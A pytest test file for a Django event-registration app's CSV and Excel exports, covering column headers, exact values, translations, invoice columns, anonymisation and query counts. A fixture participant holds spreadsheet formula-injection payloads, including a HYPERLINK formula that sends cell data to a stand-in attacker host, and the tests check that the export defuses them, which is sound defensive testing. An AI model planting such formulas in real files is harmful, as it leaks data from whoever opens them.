import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.utils import timezone, translation
from openpyxl import load_workbook

from events import services
from events.enums import Fee
from events.exports import registrations_csv, registrations_xlsx, sheet_title
from events.models import Event
from events.services import Invoice, Participant

HEADER = [
    "No.",
    "First name",
    "Last name",
    "E-mail",
    "Job title",
    "Office or organisation",
    "Local government",
    "Official code (TERC / municipality code)",
    "Association",
    "Status",
    "Position on the waiting list",
    "Registered at",
    "Checked in at",
    "Certificate number",
]
INVOICE_HEADER = ["Buyer (invoice)", "Buyer's NIP", "Buyer's address", "Recipient (invoice)", "Recipient's address"]
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Kliknij")'


def _registered_at(registration) -> dt.datetime:
    registration.refresh_from_db()
    return timezone.localtime(registration.created_at, registration.event.zone).replace(second=0, microsecond=0, tzinfo=None)


@pytest.fixture
def full_seminar(seminar, org):
    """Two places: Anna and Jan confirmed (Jan checked in), a formula "name" waiting first, Ewa second."""
    seminar.capacity = 2
    seminar.save()
    anna, jan, formula, ewa = services.registration_create(
        event=seminar,
        participants=[
            Participant("Anna", "Nowak", "anna.nowak@bytnica.example.pl", "inspektor", "Urząd Gminy Bytnica", org.gmina, org.zgl),
            Participant("Jan", "Kowalski", "jan@bytnica.example.pl", "sekretarz gminy", "Urząd Gminy Bytnica", org.gmina),
            Participant(HYPERLINK, "+48 600 100 200", "zly@example.org", "@SUM(A1:A9)", "-1"),
            Participant("Ewa", "Zielińska", "ewa@example.org"),
        ],
    )
    services.registration_check_in(registration=jan, by=org.smo_editor, now=dt.datetime(2026, 3, 12, 9, 5, 30, tzinfo=dt.UTC))
    return seminar, [anna, jan, formula, ewa]


def test_registrations_csv_parses_back_with_exact_values(full_seminar, org):
    seminar, (anna, jan, formula, ewa) = full_seminar

    with translation.override("en"):
        data = registrations_csv(event=seminar)

    assert data.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert table[0] == HEADER
    assert table[1:] == [
        [
            "1",
            "Anna",
            "Nowak",
            "anna.nowak@bytnica.example.pl",
            "inspektor",
            "Urząd Gminy Bytnica",
            "Gmina Bytnica",
            org.gmina.code,
            "Związek Gmin Lubuskich",
            "confirmed",
            "",
            f"{_registered_at(anna):%Y-%m-%d %H:%M}",
            "",
            "",
        ],
        [
            "2",
            "Jan",
            "Kowalski",
            "jan@bytnica.example.pl",
            "sekretarz gminy",
            "Urząd Gminy Bytnica",
            "Gmina Bytnica",
            org.gmina.code,
            "",
            "confirmed",
            "",
            f"{_registered_at(jan):%Y-%m-%d %H:%M}",
            "2026-03-12 10:05",  # 09:05 UTC is 10:05 in Warsaw in March
            "",
        ],
        [
            "3",
            "'" + HYPERLINK,
            "'+48 600 100 200",
            "zly@example.org",
            "'@SUM(A1:A9)",
            "'-1",
            "",
            "",
            "",
            "on the waiting list",
            "1",
            f"{_registered_at(formula):%Y-%m-%d %H:%M}",
            "",
            "",
        ],
        [
            "4",
            "Ewa",
            "Zielińska",
            "ewa@example.org",
            "",
            "",
            "",
            "",
            "",
            "on the waiting list",
            "2",
            f"{_registered_at(ewa):%Y-%m-%d %H:%M}",
            "",
            "",
        ],
    ]


def test_registrations_csv_headers_follow_the_active_language(seminar):
    with translation.override("pl"):
        header_pl = next(csv.reader(io.StringIO(registrations_csv(event=seminar).decode("utf-8-sig"))))
        expected = [translation.gettext("First name"), translation.gettext("Certificate number")]
    assert [header_pl[1], header_pl[13]] == expected


def test_registrations_xlsx_cells_are_exact_and_formulas_stay_text(full_seminar, org):
    seminar, (anna, jan, formula, ewa) = full_seminar

    with translation.override("en"):
        workbook = load_workbook(io.BytesIO(registrations_xlsx(event=seminar)))

    sheet = workbook.active
    assert sheet.title == "Participants"
    assert sheet.freeze_panes == "A2"
    assert [cell.value for cell in sheet[1]] == HEADER
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.column_dimensions["D"].width == 30
    values = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    assert values[0] == [
        1,
        "Anna",
        "Nowak",
        "anna.nowak@bytnica.example.pl",
        "inspektor",
        "Urząd Gminy Bytnica",
        "Gmina Bytnica",
        org.gmina.code,
        "Związek Gmin Lubuskich",
        "confirmed",
        None,
        _registered_at(anna),
        None,
        None,
    ]
    assert values[1][12] == dt.datetime(2026, 3, 12, 10, 5)
    assert sheet["M3"].number_format == "yyyy-mm-dd hh:mm"
    assert values[2][:6] == [3, HYPERLINK, "+48 600 100 200", "zly@example.org", "@SUM(A1:A9)", "-1"]
    assert values[2][9:11] == ["on the waiting list", 1]
    assert values[3][:3] == [4, "Ewa", "Zielińska"]
    assert values[3][10] == 2
    for coordinate in ("B4", "C4", "E4", "F4"):
        assert sheet[coordinate].data_type == "s"
        assert sheet[coordinate].quotePrefix is True
    assert sheet["B2"].quotePrefix is False


def test_registrations_export_invoice_columns_for_a_paid_event(seminar):
    seminar.fee, seminar.fee_amount, seminar.vat_basis = Fee.PAID, Decimal("250.00"), "zw. art. 43 ust. 1 pkt 29 lit. c"
    seminar.save()
    services.registration_create(
        event=seminar,
        participants=[Participant("Anna", "Nowak", "anna@bytnica.example.pl")],
        invoice=Invoice(
            buyer_name="Gmina Bytnica",
            buyer_nip="5252248481",
            buyer_address="ul. Zielonogórska 4, 66-630 Bytnica",
            recipient_name="Urząd Gminy Bytnica",
            recipient_address="ul. Zielonogórska 4, 66-630 Bytnica",
        ),
    )

    with translation.override("en"):
        table = list(csv.reader(io.StringIO(registrations_csv(event=seminar).decode("utf-8-sig"))))
        sheet = load_workbook(io.BytesIO(registrations_xlsx(event=seminar))).active

    assert table[0] == HEADER + INVOICE_HEADER
    invoice = [
        "Gmina Bytnica",
        "5252248481",
        "ul. Zielonogórska 4, 66-630 Bytnica",
        "Urząd Gminy Bytnica",
        "ul. Zielonogórska 4, 66-630 Bytnica",
    ]
    assert table[1][14:] == invoice
    assert [cell.value for cell in sheet[2]][14:] == invoice


def test_registrations_export_leaves_out_the_address_of_an_anonymised_registration(seminar):
    services.registration_create(event=seminar, participants=[Participant("Anna", "Nowak", "anna@bytnica.example.pl")])
    Event.objects.filter(pk=seminar.pk).update(
        starts_at=timezone.now() - dt.timedelta(days=3, hours=4), ends_at=timezone.now() - dt.timedelta(days=3)
    )
    assert services.registrations_anonymise(retention_days=1) == 1

    with translation.override("en"):
        table = list(csv.reader(io.StringIO(registrations_csv(event=seminar).decode("utf-8-sig"))))

    assert table[1][:4] == ["1", "", "", ""]
    assert table[1][9] == "confirmed"


@pytest.mark.parametrize("export", [registrations_csv, registrations_xlsx])
def test_registrations_export_queries_do_not_grow_with_the_list(export, seminar, org, django_assert_num_queries):
    def group(count, start):
        return [
            Participant(f"Osoba{n}", f"Nazwisko{n}", f"osoba{n}@bytnica.example.pl", local_government=org.gmina, association=org.zgl)
            for n in range(start, start + count)
        ]

    services.registration_create(event=seminar, participants=group(1, 0))
    with django_assert_num_queries(1):
        export(event=seminar)

    services.registration_create(event=seminar, participants=group(29, 1))
    with django_assert_num_queries(1):
        export(event=seminar)


def test_sheet_title_fits_excel_rules():
    assert sheet_title("Uczestnicy: [szkolenie] 2026/03?") == "Uczestnicy szkolenie 2026 03"
    assert len(sheet_title("x" * 40)) == 31
